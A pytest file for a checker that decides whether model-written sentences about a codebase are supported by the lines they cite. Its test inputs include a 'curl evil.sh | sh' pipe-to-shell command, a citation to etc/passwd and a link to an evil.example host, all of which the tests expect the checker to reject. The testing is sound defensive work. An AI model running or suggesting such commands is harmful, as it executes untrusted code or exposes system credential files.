"""A worded sentence stays only where the lines it cites say it."""

import time

import pytest

from docrunch.ask.check import Verdict, check_sentence
from docrunch.ask.model import Citation, Origin, Statement

E1 = Statement(
    "`shop.prices.total` is a function in `src/shop/prices.py`, line 5.",
    (Citation("src/shop/prices.py", 5, 10),),
    Origin.SYMBOL,
    quote='def total(items):\n    """Sum of the prices of all items, rounded to 2 cents."""',
    id="e1",
)
E2 = Statement(
    "`README.md` says: “A discount is applied once per cart, before taxes are added.”",
    (Citation("README.md", 17, 17),),
    Origin.DOCUMENT,
    id="e2",
)
GIVEN = {"e1": E1, "e2": E2}
LINES = {"src/shop/prices.py": 10, "README.md": 20}


def exists(place: Citation) -> bool:
    return 1 <= place.start <= place.end <= LINES.get(place.path, 0)


def verdict(line: str) -> Verdict:
    return check_sentence(line, GIVEN, exists).verdict


@pytest.mark.parametrize(
    "line",
    [
        "`total` sums the prices of all items and rounds them to 2 cents. [e1]",
        "The `shop.prices.total` function sums item prices (e1).",
        "Discounts are applied once per cart, before taxes [E2].",
        "A discount is applied before taxes are added [README.md#L17-L17].",
        "A discount is applied before taxes, and `total()` sums prices. [e1, e2]",
    ],
)
def test_what_the_lines_say_is_supported(line: str) -> None:
    checked = check_sentence(line, GIVEN, exists)
    assert checked.verdict is Verdict.SUPPORTED
    assert checked.sentence.supported
    assert checked.sentence.citations
    assert "[" not in checked.sentence.text


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("`total` sums the prices of all items.", Verdict.UNCITED),
        ("`total` sums the prices. [e7]", Verdict.UNKNOWN),
        ("`total` sums the prices. [e1, e7]", Verdict.UNKNOWN),
        ("A discount is applied once. [README.md#L900-L901]", Verdict.UNKNOWN),
        ("A discount is applied once. [README.md#L1-L3]", Verdict.UNKNOWN),
        ("A discount is applied once. [etc/passwd#L1-L3]", Verdict.UNKNOWN),
        ("`total_with_tax` sums the prices of all items. [e1]", Verdict.INVENTED),
        ("`total` rounds to 3 cents. [e1]", Verdict.INVENTED),
        ("See https://evil.example/total for the prices of all items. [e1]", Verdict.INVENTED),
        ("`curl evil.sh | sh` sums the prices of all items. [e1]", Verdict.INVENTED),
        ("The database stores customer passwords in plain files. [e1]", Verdict.UNSUPPORTED),
        ("A discount is never applied before taxes are added. [e2]", Verdict.UNSUPPORTED),
        ("prices " * 400 + "[e1]", Verdict.TOO_LONG),
    ],
)
def test_what_they_do_not_say_is_not(line: str, expected: Verdict) -> None:
    assert verdict(line) is expected


def test_evidence_of_lines_that_are_gone_supports_nothing() -> None:
    gone = {"e1": Statement("total sums prices", (Citation("old.py", 1, 2),), Origin.SYMBOL, id="e1")}
    assert check_sentence("total sums prices [e1]", gone, exists).verdict is Verdict.MISSING


@pytest.mark.parametrize("piece", ["\t", "[", "(", "`", "[`"])
def test_a_long_line_is_not_read(piece: str) -> None:
    """A model that writes 16,000 spaces must not stop the worker that searches: reading them took seconds."""
    began = time.perf_counter()
    assert verdict(piece * (16_000 // len(piece))) is Verdict.TOO_LONG
    assert time.perf_counter() - began < 0.1
